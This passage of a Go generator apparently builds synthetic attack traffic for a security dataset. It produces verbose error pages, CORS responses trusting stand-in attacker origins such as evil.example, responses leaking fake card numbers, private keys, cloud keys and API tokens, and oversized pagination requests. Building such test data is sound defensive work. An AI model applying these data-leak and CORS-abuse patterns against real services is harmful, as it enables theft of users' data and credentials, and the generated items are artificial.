	"SQLSTATE[HY000]: General error: 1205 Lock wait timeout exceeded; try restarting transaction",
	"java.sql.SQLSyntaxErrorException: ORA-00904: \"POLICY_NO\": invalid identifier",
	"Warning: mysqli_fetch_assoc() expects parameter 1 to be mysqli_result, bool given in /var/www/claims/search.php on line 33",
	"SequelizeDatabaseError: column \"driver_rating\" does not exist",
	"psycopg2.errors.UndefinedTable: relation \"fare_zones\" does not exist\nLINE 1: SELECT zone_id FROM fare_zones WHERE ...\n                             ^",
}

func (g *h5Gen) verbReq(k int) h5Req {
	switch k % 8 {
	case 0:
		return h5Req{Method: "GET", Host: h5Claims, Path: "/v1/claims/" + g.claimID()}
	case 1:
		return h5Req{Method: "POST", Host: h5Ride, Path: "/v2/fare-estimates", CType: "application/json", Body: `{"from":{"lat":51.5,"lng":-0.12},"to":{"lat":51.47,"lng":-0.45}}`}
	case 2:
		return h5Req{Method: "POST", Host: h5CI, Path: fmt.Sprintf("/api/v1/jobs/%d/retry", g.n(1000000, 9999999))}
	case 3:
		return h5Req{Method: "GET", Host: h5Claims, Path: "/v1/payouts/pay_" + g.str(h5Alnum, 14)}
	case 4:
		return h5Req{Method: "GET", Host: h5Ride, Path: "/v2/trips/trp_" + g.str(h5Alnum, 16) + "/receipt"}
	case 5:
		return h5Req{Method: "POST", Host: h5CI, Path: "/api/v1/projects/" + g.proj() + "/webhooks/test", CType: "application/json", Body: `{"event":"pipeline"}`}
	case 6:
		return h5Req{Method: "GET", Host: h5Ride, Path: "/v2/drivers/nearby?lat=51.47&lng=-0.45&radius=1500"}
	default:
		return h5Req{Method: "GET", Host: h5Claims, Path: "/v1/policies/" + g.policyID() + "/documents"}
	}
}

func (g *h5Gen) attackVerbose() {
	k := 0
	for i, tr := range h5Traces {
		var resp h5Resp
		switch i % 3 {
		case 0:
			resp = h5Resp{Status: 500, CType: "text/plain; charset=utf-8", Body: tr}
		case 1:
			resp = h5Resp{Status: 500, CType: "application/json", Body: h5JSON(map[string]any{"error": "internal_error", "message": strings.SplitN(tr, "\n", 2)[0], "stack": tr})}
		default:
			resp = h5Resp{Status: 502, CType: "application/json", Body: h5JSON(map[string]any{"errors": []any{map[string]any{"status": "502", "detail": tr}}})}
		}
		g.attack(g.verbReq(k), resp, h5Verb)
		k++
	}
	for i, e := range h5DBErrors {
		body := h5JSON(map[string]any{"error": "database_error", "detail": e})
		if i%4 == 3 {
			body = h5JSON(map[string]any{"data": nil, "errors": []any{map[string]any{"message": e, "path": []string{"pipelines"}}}})
		}
		g.attack(g.verbReq(k), h5Resp{Status: []int{500, 500, 400, 200}[i%4], CType: "application/json", Body: body}, h5Verb)
		k++
	}
	// Framework debug pages and debug JSON.
	pages := []h5Resp{
		{Status: 500, CType: "text/html; charset=utf-8", Body: `<!DOCTYPE html><html lang="en"><head><meta http-equiv="content-type" content="text/html; charset=utf-8"><title>KeyError at /v1/claims/export</title></head><body><div id="summary"><h1>KeyError at /v1/claims/export</h1><pre class="exception_value">'policy'</pre><table class="meta"><tr><th>Django Version:</th><td>5.1.3</td></tr><tr><th>Exception Location:</th><td>/app/claims/export.py, line 41, in build</td></tr><tr><th>Python Executable:</th><td>/usr/local/bin/python3</td></tr></table></div><div id="explanation"><p>You're seeing this error because you have <code>DEBUG = True</code> in your Django settings file.</p></div></body></html>`},
		{Status: 500, CType: "text/html; charset=UTF-8", Body: `<!doctype html><html><head><title>Whoops! There was an error.</title></head><body><div class="exception-message">Illuminate\Database\QueryException: SQLSTATE[42S02]: Base table or view not found: 1146 Table 'claims.adjuster_notes' doesn't exist (SQL: select * from ` + "`adjuster_notes`" + `)</div><div class="frame">/var/www/html/vendor/laravel/framework/src/Illuminate/Database/Connection.php:825</div></body></html>`},
		{Status: 500, CType: "text/html;charset=utf-8", Body: `<!doctype html><html lang="en"><head><title>HTTP Status 500 – Internal Server Error</title></head><body><h1>HTTP Status 500 – Internal Server Error</h1><hr class="line" /><p><b>Type</b> Exception Report</p><p><b>Message</b> Request processing failed: java.lang.IllegalArgumentException: Invalid trip state</p><p><b>Exception</b></p><pre>jakarta.servlet.ServletException: Request processing failed: java.lang.IllegalArgumentException: Invalid trip state
	org.springframework.web.servlet.FrameworkServlet.processRequest(FrameworkServlet.java:1022)
	jakarta.servlet.http.HttpServlet.service(HttpServlet.java:590)
</pre><hr class="line" /><h3>Apache Tomcat/10.1.24</h3></body></html>`},
		{Status: 500, CType: "text/html; charset=UTF-8", Body: `<!DOCTYPE html><html><head><title>Symfony Exception</title></head><body><div class="exception-summary"><h2 class="exception-message">An exception occurred while executing a query: SQLSTATE[42703]: Undefined column: 7 ERROR:  column "payout_ref" does not exist</h2><div class="exception-class">Doctrine\DBAL\Exception\InvalidFieldNameException</div></div><div class="trace-line">in /srv/app/vendor/doctrine/dbal/src/Driver/API/PostgreSQL/ExceptionConverter.php (line 67)</div></body></html>`},
		{Status: 500, CType: "application/json", Body: `{"timestamp":"2026-12-01T08:31:12.004+00:00","status":500,"error":"Internal Server Error","trace":"java.lang.ArithmeticException: / by zero\n\tat com.ridego.fares.SurgeCalculator.ratio(SurgeCalculator.java:47)\n\tat com.ridego.fares.FareController.estimate(FareController.java:63)\n","message":"/ by zero","path":"/v2/fare-estimates"}`},
		{Status: 500, CType: "text/html; charset=utf-8", Body: `<html><head><title>Runtime Error</title></head><body><span><H1>Server Error in '/' Application.<hr width=100% size=1 color=silver></H1><h2><i>Object reference not set to an instance of an object.</i></h2></span><b>Exception Details: </b>System.NullReferenceException: Object reference not set to an instance of an object.<br><b>Source File: </b> C:\inetpub\claims\Payouts.aspx.cs<b> &nbsp;&nbsp; Line: </b> 57<br><b>Version Information:</b>&nbsp;Microsoft .NET Framework Version:4.0.30319; ASP.NET Version:4.8.4718.0</body></html>`},
		{Status: 500, CType: "text/html; charset=utf-8", Body: `<!DOCTYPE html><html><head><title>Action Controller: Exception caught</title></head><body><header><h1>NoMethodError in TripsController#receipt</h1></header><div id="container"><h2>undefined method 'currency' for nil</h2><div class="source" id="frame-source-0"><div class="info">Extracted source (around line #27):</div></div><p><code>Rails.root: /app</code></p><div id="Application-Trace"><pre><code>app/controllers/trips_controller.rb:27:in 'TripsController#receipt'</code></pre></div></div></body></html>`},
		{Status: 500, CType: "application/json", Body: `{"type":"https://tools.ietf.org/html/rfc9110#section-15.6.1","title":"An error occurred while processing your request.","status":500,"detail":"System.IO.FileNotFoundException: Could not find file '/app/templates/payout.cshtml'.\n   at System.IO.Strategies.FileStreamHelpers.ValidateArguments(FileMode mode)\n   at ClaimSure.Api.Services.LetterService.Render(Payout p) in /src/ClaimSure.Api/Services/LetterService.cs:line 31","traceId":"00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"}`},
		{Status: 500, CType: "text/html", Body: `<pre>Werkzeug Debugger</pre><h1>sqlalchemy.exc.OperationalError</h1><div class="plain"><textarea>Traceback (most recent call last):
  File "/app/venv/lib/python3.12/site-packages/sqlalchemy/engine/base.py", line 1967, in _exec_single_context
    self.dialect.do_execute(
sqlalchemy.exc.OperationalError: (psycopg2.OperationalError) could not connect to server: Connection refused</textarea></div>`},
	}
	for _, p := range pages {
		g.attack(g.verbReq(k), p, h5Verb)
		k++
	}
	// CORS that lets foreign origins read credentialed responses.
	cors := []struct{ origin, acao string }{
		{"https://evil.example", "https://evil.example"}, {"null", "null"}, {"https://claimsure.example.attacker.example", "https://claimsure.example.attacker.example"},
		{"https://attacker.example", "*"}, {"http://ridego-phish.example", "http://ridego-phish.example"}, {"https://buildhive.example.evil.example", "https://buildhive.example.evil.example"},
		{"https://evil-ridego.example", "https://evil-ridego.example"}, {"null", "null"}, {"https://x.oast.example", "https://x.oast.example"}, {"https://attacker.example", "*"},
		{"https://portal-claimsure.example", "https://portal-claimsure.example"},
	}
	for i, c := range cors {
		req := g.verbReq(k)
		req.Headers = append(req.Headers, [2]string{"Origin", c.origin})
		body := h5JSON(map[string]any{"id": "usr_" + g.str(h5Alnum, 12), "email": "user" + fmt.Sprint(i) + "@mail.example", "plan": "pro"})
		g.attack(req, h5Resp{Status: 200, CType: "application/json", Body: body, Headers: [][2]string{{"Access-Control-Allow-Origin", c.acao}, {"Access-Control-Allow-Credentials", "true"}, {"Vary", "Origin"}}}, h5Verb)
		k++
	}
}

func (g *h5Gen) pem(kind string) string {
	var b strings.Builder
	b.WriteString("-----BEGIN " + kind + "-----\n")
	b.WriteString("MIIEowIBAAKCAQEA" + g.str(h5Alnum+"+/", 48) + "\n")
	for i := 0; i < 8; i++ {
		b.WriteString(g.str(h5Alnum+"+/", 64) + "\n")
	}
	b.WriteString(g.str(h5Alnum+"+/", 36) + "==\n-----END " + kind + "-----\n")
	return b.String()
}

func (g *h5Gen) bcrypt() string { return "$2b$12$" + g.str(h5Alnum+"./", 53) }

func (g *h5Gen) attackSensitive() {
	type rr struct {
		req  h5Req
		resp h5Resp
	}
	var xs []rr
	add := func(req h5Req, body string) { xs = append(xs, rr{req, h5OK(body)}) }
	// Cards.
	cards := []struct {
		prefix string
		l      int
	}{{"4", 16}, {"51", 16}, {"2221", 16}, {"37", 15}, {"6011", 16}, {"62", 16}, {"6759", 16}, {"2200", 16}, {"35", 16}, {"4", 16}, {"55", 16}, {"4", 19}}
	for i, c := range cards {
		num := h5Luhn(c.prefix, c.l, g)
		switch i % 6 {
		case 0:
			add(h5Req{Method: "GET", Host: h5Ride, Path: "/v2/payments/methods"}, h5JSON(map[string]any{"methods": []any{map[string]any{"id": "pm_" + g.str(h5Alnum, 24), "card_number": num, "exp": "09/29", "holder": "M OKAFOR"}}}))
		case 1:
			add(h5Req{Method: "GET", Host: h5Claims, Path: "/v1/policies/" + g.policyID()}, h5JSON(map[string]any{"id": g.policyID(), "payment_method": map[string]any{"type": "card", "number": num, "cvv": fmt.Sprint(g.n(100, 999))}}))
		case 2:
			grouped := num[:4] + " " + num[4:8] + " " + num[8:12] + " " + num[12:]
			add(h5Req{Method: "GET", Host: h5Ride, Path: "/v2/trips/trp_" + g.str(h5Alnum, 16) + "/receipt"}, h5JSON(map[string]any{"total": "23.40", "charged_to": grouped}))
		case 3:
			add(h5Req{Method: "GET", Host: h5Claims, Path: "/v1/claims/" + g.claimID() + "/messages"}, h5JSON(map[string]any{"messages": []any{map[string]any{"from": "claimant", "body": "Please refund to my card " + num + " exp 04/28 thanks"}}}))
		case 4:
			add(h5Req{Method: "GET", Host: h5Claims, Path: "/v1/payouts/export?format=csv&month=2026-11"}, "")
			xs[len(xs)-1].resp = h5Resp{Status: 200, CType: "text/csv", Body: "payout_id,claim_id,amount,card_number,holder\npay_" + g.str(h5Alnum, 10) + "," + g.claimID() + ",412.00," + num + ",A DARCY\npay_" + g.str(h5Alnum, 10) + "," + g.claimID() + ",90.50," + h5Luhn("4", 16, g) + ",T NOWAK\n"}
		default:
			add(h5Req{Method: "GET", Host: h5Ride, Path: "/v2/payment-intents/pi_" + g.str(h5Alnum, 24)}, h5JSON(map[string]any{"id": "pi_" + g.str(h5Alnum, 24), "payment_method": map[string]any{"card": map[string]any{"pan": num, "brand": "unknown"}}}))
		}
	}
	// Passwords and hashes.
	add(h5Req{Method: "GET", Host: h5Ride, Path: "/v2/riders/me"}, h5JSON(map[string]any{"id": "rdr_" + g.str(h5Alnum, 12), "email": "rider77@mail.example", "password_hash": g.bcrypt()}))
	add(h5Req{Method: "GET", Host: h5CI, Path: "/api/v1/users?search=ops"}, h5JSON(map[string]any{"users": []any{map[string]any{"login": "ops", "encrypted_password": g.bcrypt()}, map[string]any{"login": "ci-bot", "encrypted_password": g.bcrypt()}}}))
	add(h5Req{Method: "GET", Host: h5Claims, Path: "/v1/adjusters/adj_" + g.str(h5Alnum, 10)}, h5JSON(map[string]any{"name": "Tomasz Nowak", "password": "Claims2026!Spring", "mfa": false}))
	add(h5Req{Method: "GET", Host: h5Ride, Path: "/v2/drivers/drv_" + g.str(h5Alnum, 10)}, h5JSON(map[string]any{"id": "drv_" + g.str(h5Alnum, 10), "pwd_sha256": g.str(h5Hex, 64), "salt": g.str(h5Hex, 16)}))
	add(h5Req{Method: "GET", Host: h5CI, Path: "/api/v1/admin/users/42"}, h5JSON(map[string]any{"login": "release-bot", "password_digest": "$argon2id$v=19$m=65536,t=3,p=4$" + g.str(h5Alnum+"+/", 22) + "$" + g.str(h5Alnum+"+/", 43)}))
	add(h5Req{Method: "GET", Host: h5Claims, Path: "/v1/brokers/brk_" + g.str(h5Alnum, 8)}, h5JSON(map[string]any{"broker": "Union Brokers Ltd", "portal_login": map[string]any{"username": "unionbrk", "password": "Br0ker!" + g.str(h5Alnum, 6)}}))
	add(h5Req{Method: "GET", Host: h5Ride, Path: "/v2/fleet/vehicles/veh_" + g.str(h5Alnum, 8)}, h5JSON(map[string]any{"telematics": map[string]any{"user": "fleet", "pass_md5": g.str(h5Hex, 32)}}))
	add(h5Req{Method: "GET", Host: h5CI, Path: "/api/v1/users/me"}, h5JSON(map[string]any{"login": "dev42", "password_hash": "pbkdf2_sha256$870000$" + g.str(h5Alnum, 22) + "$" + g.str(h5Alnum+"+/", 43) + "="}))
	// Private keys.
	add(h5Req{Method: "GET", Host: h5CI, Path: "/api/v1/projects/" + g.proj() + "/deploy_keys/7"}, h5JSON(map[string]any{"title": "prod deploy", "key": g.pem("OPENSSH PRIVATE KEY")}))
	add(h5Req{Method: "GET", Host: h5Claims, Path: "/v1/integrations/sftp"}, h5JSON(map[string]any{"host": "sftp.partner-tpa.example", "private_key": g.pem("RSA PRIVATE KEY")}))
	add(h5Req{Method: "GET", Host: h5Ride, Path: "/v2/.well-known/jwks.json"}, h5JSON(map[string]any{"keys": []any{map[string]any{"kty": "EC", "crv": "P-256", "kid": "2026-11-key_2", "x": g.str(h5Alnum+"-_", 43), "y": g.str(h5Alnum+"-_", 43), "d": g.str(h5Alnum+"-_", 43)}}}))
	add(h5Req{Method: "GET", Host: h5CI, Path: "/api/v1/projects/" + g.proj() + "/secrets/GCP_SA_KEY?reveal=true"}, h5JSON(map[string]any{"name": "GCP_SA_KEY", "value": h5JSON(map[string]any{"type": "service_account", "project_id": "ridego-prod", "private_key_id": g.str(h5Hex, 40), "private_key": g.pem("PRIVATE KEY"), "client_email": "ci@ridego-prod.iam.gserviceaccount.com"})}))
	add(h5Req{Method: "GET", Host: h5Claims, Path: "/v1/certificates/current"}, h5JSON(map[string]any{"cert": "-----BEGIN CERTIFICATE-----\nMIIB" + g.str(h5Alnum, 60) + "\n-----END CERTIFICATE-----", "key": g.pem("EC PRIVATE KEY")}))
	add(h5Req{Method: "GET", Host: h5Ride, Path: "/v2/internal/keys"}, h5JSON(map[string]any{"keys": []any{map[string]any{"kty": "RSA", "kid": "sig-1", "n": g.str(h5Alnum+"-_", 342), "e": "AQAB", "d": g.str(h5Alnum+"-_", 342), "p": g.str(h5Alnum+"-_", 171), "q": g.str(h5Alnum+"-_", 171)}}}))
	// Cloud credentials.
	add(h5Req{Method: "GET", Host: h5CI, Path: "/api/v1/projects/" + g.proj() + "/variables?reveal=1"}, h5JSON(map[string]any{"variables": []any{map[string]any{"key": "AWS_ACCESS_KEY_ID", "value": "AKIA" + g.str("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16)}, map[string]any{"key": "AWS_SECRET_ACCESS_KEY", "value": g.str(h5Alnum+"/+", 40)}}}))
	add(h5Req{Method: "GET", Host: h5Claims, Path: "/v1/storage/config"}, h5JSON(map[string]any{"connection_string": "DefaultEndpointsProtocol=https;AccountName=claimsuredocs;AccountKey=" + g.str(h5Alnum+"+/", 86) + "==;EndpointSuffix=core.windows.net"}))
	add(h5Req{Method: "GET", Host: h5Ride, Path: "/v2/integrations/events"}, h5JSON(map[string]any{"bus": "Endpoint=sb://ridego-events.servicebus.windows.net/;SharedAccessKeyName=RootManageSharedAccessKey;SharedAccessKey=" + g.str(h5Alnum+"+/", 43) + "="}))
	add(h5Req{Method: "GET", Host: h5CI, Path: "/api/v1/runners/77/config"}, h5JSON(map[string]any{"cache": map[string]any{"s3": map[string]any{"access_key": "AKIA" + g.str("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16), "secret_key": g.str(h5Alnum+"/+", 40), "bucket": "bh-runner-cache"}}}))
	add(h5Req{Method: "GET", Host: h5Claims, Path: "/v1/exports/latest"}, h5JSON(map[string]any{"url": "https://claimsuredocs.blob.core.windows.net/?sv=2022-11-02&ss=bfqt&srt=sco&sp=rwdlacupiytfx&se=2027-12-01T00:00:00Z&st=2026-12-01T00:00:00Z&spr=https&sig=" + url.QueryEscape(g.str(h5Alnum+"+/", 43)+"=")}))
	// Provider tokens and API secrets.
	tokens := []string{"ghp_" + g.str(h5Alnum, 36), "glpat-" + g.str(h5Alnum+"-_", 20), "xoxb-" + fmt.Sprint(g.n(100000000000, 999999999999)) + "-" + fmt.Sprint(g.n(1000000000000, 9999999999999)) + "-" + g.str(h5Alnum, 24),
		"npm_" + g.str(h5Alnum, 36), "shpat_" + g.str(h5Hex, 32), "sk_live_" + g.str(h5Alnum, 99), "sq0csp-" + g.str(h5Alnum+"-_", 43), "sk-proj-" + g.str(h5Alnum+"-_", 120),
		"sk-ant-api03-" + g.str(h5Alnum+"-_", 93) + "AA", "github_pat_" + g.str(h5Alnum, 22) + "_" + g.str(h5Alnum, 59), "rk_live_" + g.str(h5Alnum, 99), "xoxp-" + fmt.Sprint(g.n(100000000000, 999999999999)) + "-" + fmt.Sprint(g.n(100000000000, 999999999999)) + "-" + fmt.Sprint(g.n(100000000000, 999999999999)) + "-" + g.str(h5Hex, 32)}
	names := []string{"GITHUB_TOKEN", "GITLAB_TOKEN", "SLACK_BOT_TOKEN", "NPM_TOKEN", "SHOPIFY_ADMIN_TOKEN", "STRIPE_SECRET_KEY", "SQUARE_SECRET", "OPENAI_API_KEY", "ANTHROPIC_API_KEY", "GH_PAT", "STRIPE_RESTRICTED_KEY", "SLACK_USER_TOKEN"}
	for i, tk := range tokens {
		switch i % 3 {
		case 0:
			add(h5Req{Method: "GET", Host: h5CI, Path: "/api/v1/projects/" + g.proj() + "/secrets/" + names[i] + "?reveal=true"}, h5JSON(map[string]any{"name": names[i], "value": tk}))
		case 1:
			add(h5Req{Method: "GET", Host: h5CI, Path: fmt.Sprintf("/api/v1/jobs/%d/log", g.n(1000000, 9999999))}, "")
			xs[len(xs)-1].resp = h5Resp{Status: 200, CType: "text/plain; charset=utf-8", Body: "$ ./scripts/publish.sh\n+ export " + names[i] + "=" + tk + "\n+ curl -sf -H 'Authorization: token ...' https://registry.example/upload\nuploaded 1 file\n"}
		default:
			add(h5Req{Method: "GET", Host: []string{h5Ride, h5Claims}[i%2], Path: "/v1/integrations"}, h5JSON(map[string]any{"integrations": []any{map[string]any{"provider": strings.ToLower(strings.SplitN(names[i], "_", 2)[0]), "credentials": map[string]any{"api_key": tk}}}}))
		}
	}
	add(h5Req{Method: "GET", Host: h5Ride, Path: "/v2/config/maps"}, h5JSON(map[string]any{"provider": "mapsco", "client_id": "rg-web", "client_secret": g.str(h5Alnum, 40)}))
	add(h5Req{Method: "GET", Host: h5Claims, Path: "/v1/webhooks/wh_" + g.str(h5Alnum, 8)}, h5JSON(map[string]any{"url": "https://tpa.partner.example/hook", "signing_secret": "whsec_" + g.str(h5Alnum, 32)}))
	// Passwords in connection URLs and config text.
	add(h5Req{Method: "GET", Host: h5CI, Path: "/api/v1/projects/" + g.proj() + "/environments/production"}, h5JSON(map[string]any{"vars": map[string]any{"DATABASE_URL": "postgres://ci_app:" + g.str(h5Alnum, 18) + "@db-prod.internal:5432/ridego?sslmode=require"}}))
	add(h5Req{Method: "GET", Host: h5Ride, Path: "/v2/debug/config"}, h5JSON(map[string]any{"redis": "redis://:" + g.str(h5Alnum, 24) + "@cache-1.ridego.internal:6379/0", "amqp": "amqps://rg:" + g.str(h5Alnum, 16) + "@mq.ridego.internal/"}))
	envBody := "APP_ENV=production\nAPP_DEBUG=false\nDB_HOST=claims-db.internal\nDB_USERNAME=claims\nDB_PASSWORD=" + g.str(h5Alnum, 20) + "\nMAIL_PASSWORD=" + g.str(h5Alnum, 16) + "\nSTRIPE_SECRET=sk_live_" + g.str(h5Alnum, 60) + "\n"
	for i, p := range []string{"/.env", "/.env.production", "/backup/.env.bak"} {
		xs = append(xs, rr{h5Req{Method: "GET", Host: []string{h5Claims, h5Claims, h5Ride}[i], Path: p, Auth: "-"}, h5Resp{Status: 200, CType: "text/plain", Body: envBody}})
	}
	xs = append(xs, rr{h5Req{Method: "GET", Host: h5CI, Path: "/api/v1/projects/" + g.proj() + "/repository/files/config%2Fsettings.ini/raw?ref=main"}, h5Resp{Status: 200, CType: "text/plain", Body: "[database]\nhost = db.internal\nuser = buildhive\npassword = " + g.str(h5Alnum, 18) + "\n\n[smtp]\nhost = smtp.example\n"}})
	xs = append(xs, rr{h5Req{Method: "GET", Host: h5CI, Path: "/api/v1/projects/" + g.proj() + "/repository/files/Cargo.toml/raw?ref=main"}, h5Resp{Status: 200, CType: "text/plain", Body: "[registry]\ntoken = \"cio" + g.str(h5Alnum, 32) + "\"\n\n[credentials]\naws_secret_access_key = \"" + g.str(h5Alnum+"/+", 40) + "\"\n"}})
	xs = append(xs, rr{h5Req{Method: "GET", Host: h5Claims, Path: "/v1/integrations/sftp/credentials"}, h5Resp{Status: 200, CType: "application/json", Body: h5JSON(map[string]any{"host": "sftp.partner-tpa.example", "user": "claimsure", "password": g.str(h5Alnum, 14) + "!9"})}})
	xs = append(xs, rr{h5Req{Method: "POST", Host: h5Ride, Path: "/v2/auth/login", Auth: "-", CType: "application/json", Body: `{"email":"rider12@mail.example","password":"correct horse"}`}, h5Resp{Status: 200, CType: "application/json", Body: h5JSON(map[string]any{"access_token": h5ValidToken(h5Ride, "usr_r12", "customer"), "token_type": "Bearer", "user": map[string]any{"id": "rdr_12", "password_hash": g.bcrypt()}})}})
	xs = append(xs, rr{h5Req{Method: "GET", Host: h5Ride, Path: "/v2/drivers/drv_" + g.str(h5Alnum, 10) + "/payout-account"}, h5Resp{Status: 200, CType: "application/json", Body: h5JSON(map[string]any{"payout": map[string]any{"method": "debit_card", "card": h5Luhn("4", 16, g), "name": "K MENSAH"}})}})
	xs = append(xs, rr{h5Req{Method: "GET", Host: h5Claims, Path: "/v1/claims/" + g.claimID() + "/ocr"}, h5Resp{Status: 200, CType: "application/json", Body: h5JSON(map[string]any{"text": "GARAGE INVOICE 2231\nPaid by Visa " + h5Luhn("4", 16, g) + "\nTotal £840.00"})}})
	add(h5Req{Method: "GET", Host: h5CI, Path: "/api/v1/billing"}, h5JSON(map[string]any{"plan": "team", "card": map[string]any{"number": h5Luhn("5", 16, g), "exp_month": 3, "exp_year": 2029}}))
	add(h5Req{Method: "GET", Host: h5Ride, Path: "/v2/config/payments"}, h5JSON(map[string]any{"stripe": map[string]any{"publishable_key": "pk_live_" + g.str(h5Alnum, 40), "secret_key": "sk_live_" + g.str(h5Alnum, 40)}}))
	add(h5Req{Method: "GET", Host: h5Claims, Path: "/v1/integrations/aws"}, h5JSON(map[string]any{"region": "eu-west-2", "aws_access_key_id": "AKIA" + g.str("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16), "aws_secret_access_key": g.str(h5Alnum+"/+", 40)}))
	add(h5Req{Method: "GET", Host: h5CI, Path: "/api/v1/projects/" + g.proj() + "/integrations/slack"}, h5JSON(map[string]any{"channel": "#deploys", "bot_token": "xoxb-" + fmt.Sprint(g.n(100000000000, 999999999999)) + "-" + fmt.Sprint(g.n(1000000000000, 9999999999999)) + "-" + g.str(h5Alnum, 24)}))
	for _, x := range xs {
		g.attack(x.req, x.resp, h5Sens)
	}
}

func (g *h5Gen) attackLimits() {
	big := func() string {
		return g.pick("1001", "5000", "10000", "50000", "100000", "999999", "2147483647", "25000", "1500", "1000000")
	}
	reqs := []h5Req{
		{Method: "GET", Host: h5Claims, Path: "/v1/claims?limit=" + big()},
		{Method: "GET", Host: h5Claims, Path: "/v1/search/claims?q=storm&per_page=" + big()},
		{Method: "GET", Host: h5Ride, Path: "/v2/trips?status=completed&page_size=" + big()},
		{Method: "GET", Host: h5Ride, Path: "/v2/trips?pageSize=" + big()},
		{Method: "GET", Host: h5CI, Path: "/api/v1/projects/" + g.proj() + "/pipelines?per_page=" + big()},
		{Method: "GET", Host: h5CI, Path: "/api/v1/runners?limit=" + big()},
		{Method: "GET", Host: h5Claims, Path: "/odata/Claims?$top=" + big() + "&$filter=" + url.QueryEscape("Status eq 'Open'")},
		{Method: "GET", Host: h5Claims, Path: "/odata/Policies?%24top=" + big()},
		{Method: "GET", Host: h5Ride, Path: "/v2/drivers?maxItems=" + big()},
		{Method: "GET", Host: h5Ride, Path: "/v2/places/autocomplete?q=kings&results_per_page=" + big()},
		{Method: "GET", Host: h5CI, Path: "/api/v1/audit-events?itemsPerPage=" + big()},
		{Method: "GET", Host: h5Claims, Path: "/v1/payouts?PerPage=" + big()},
		{Method: "GET", Host: h5Ride, Path: "/v2/trips?page%5Bsize%5D=" + big()},
		{Method: "GET", Host: h5CI, Path: "/api/v1/jobs?max_results=" + big()},
		{Method: "GET", Host: h5Claims, Path: "/v1/claims?num_rows=" + big()},
		{Method: "GET", Host: h5Ride, Path: "/v2/promo/codes?page_limit=" + big()},
		{Method: "GET", Host: h5CI, Path: "/api/v1/artifacts?pagesize=" + big()},
		{Method: "GET", Host: h5Claims, Path: "/v1/adjusters/adj_7/queue?items_per_page=" + big()},
		{Method: "GET", Host: h5Ride, Path: "/v2/drivers/me/earnings/per_page/" + big()},
		{Method: "GET", Host: h5CI, Path: "/api/v1/projects/" + g.proj() + "/commits/per_page/" + big()},
		{Method: "GET", Host: h5Claims, Path: "/v1/claims?limit=" + big() + "&offset=0&sort=-created_at"},
		{Method: "GET", Host: h5Ride, Path: "/v2/support/chats?per_page=" + big() + "&page=1"},
		{Method: "GET", Host: h5CI, Path: "/api/v1/users?limit=%35%30%30%30%30"},
		{Method: "GET", Host: h5Claims, Path: "/v1/documents?maxPageSize=" + big()},
		{Method: "GET", Host: h5Ride, Path: "/v2/ratings?first=10&limit=" + big()},
		{Method: "GET", Host: h5CI, Path: "/api/v1/webhooks/deliveries?per-page=" + big()},
		{Method: "GET", Host: h5Claims, Path: "/v1/policies?pagination%5Blimit%5D=" + big()},
	}
	jsonBodies := []struct{ host, path, body string }{
		{h5Claims, "/v1/claims/search", `{"filter":{"status":"open"},"pagination":{"page":1,"size":` + big() + `}}`},
		{h5Claims, "/v1/claims/search", `{"query":{"match":{"description":"storm"}},"from":0,"size":` + big() + `}`},
		{h5Ride, "/v2/trips/search", `{"criteria":{"city":"london"},"page":{"number":0,"size":` + big() + `}}`},
		{h5Ride, "/v2/trips/search", `{"paging":{"limit":` + big() + `,"cursor":null}}`},
		{h5CI, "/api/v1/pipelines/search", `{"project":"rider-app","options":{"limit":` + big() + `}}`},
		{h5CI, "/api/v1/pipelines/search", `{"pageable":{"page":0,"size":` + big() + `}}`},
		{h5Claims, "/v1/reports/payouts", `{"report":{"filters":{"month":"2026-11"},"pager":{"perPage":` + big() + `}}}`},
		{h5Ride, "/v2/drivers/search", `{"geo":{"lat":51.5,"lng":-0.12,"radius_m":3000},"pageSize":` + big() + `}`},
		{h5CI, "/api/v1/logs/query", `{"job":8812231,"per_page":` + big() + `}`},
		{h5Claims, "/v1/claims/bulk-export", `{"format":"json","max_items":` + big() + `}`},
		{h5Ride, "/v2/trips/search", `{"filters":[{"field":"status","op":"eq","value":"completed"}],"top":` + big() + `}`},
		{h5CI, "/api/v1/artifacts/search", `{"q":"dist","results_per_page":"` + big() + `"}`},
	}
	for _, j := range jsonBodies {
		reqs = append(reqs, h5Req{Method: "POST", Host: j.host, Path: j.path, CType: "application/json", Body: j.body})
	}
	gql := []struct {
		q    string
		vars map[string]any
	}{
		{"query { project(id: \"prj_1\") { pipelines(first: " + big() + ") { nodes { id status } } } }", nil},
		{"query P($n: Int!) { project(id: \"prj_9\") { jobs(first: $n) { nodes { id name } } } }", map[string]any{"n": 50000}},
		{"query { auditEvents(limit: " + big() + ", order: DESC) { actor action at } }", nil},
		{"query L($size: Int) { artifacts(pageSize: $size) { name size } }", map[string]any{"size": 100000}},
		{"query { users(last: " + big() + ") { edges { node { login email } } } }", nil},
		{"query Runs($p: Int = 20, $pp: Int) { runs(page: $p, perPage: $pp) { id } }", map[string]any{"pp": 25000}},
		{"query { a: pipelines(first: 100) { nodes { id } } b: pipelines(first: " + big() + ") { nodes { id } } }", nil},
		{"query { project(id: \"prj_3\") { mergeRequests(first: 1000) { nodes { id } } issues(first: " + big() + ") { nodes { id } } } }", nil},
	}
	for _, q := range gql {
		body := map[string]any{"query": q.q}
		if q.vars != nil {
			body["variables"] = q.vars
		}
		reqs = append(reqs, h5Req{Method: "POST", Host: h5CI, Path: "/graphql", CType: "application/json", Body: h5JSON(body)})
	}
	reqs = append(reqs,
		h5Req{Method: "POST", Host: h5Ride, Path: "/v2/riders/me/export", CType: "application/x-www-form-urlencoded", Body: "format=json&limit=" + big()},
		h5Req{Method: "POST", Host: h5Claims, Path: "/v1/search/claims", CType: "application/x-www-form-urlencoded", Body: "q=fire&per_page=" + big() + "&page=1"},
		h5Req{Method: "GET", Host: h5CI, Path: "/api/v1/projects/" + g.proj() + "/pipelines?perPage=" + big()},
		h5Req{Method: "GET", Host: h5Ride, Path: "/v2/trips?limit=1e6"},
		h5Req{Method: "GET", Host: h5CI, Path: "/api/v1/projects/" + g.proj() + "/issues?state=opened&per_page=" + big()},
		h5Req{Method: "GET", Host: h5Claims, Path: "/v1/claims/" + g.claimID() + "/notes?pageSize=" + big()},
		h5Req{Method: "GET", Host: h5Ride, Path: "/v2/drivers/nearby?lat=51.5&lng=-0.12&radius=2000&top=" + big()},
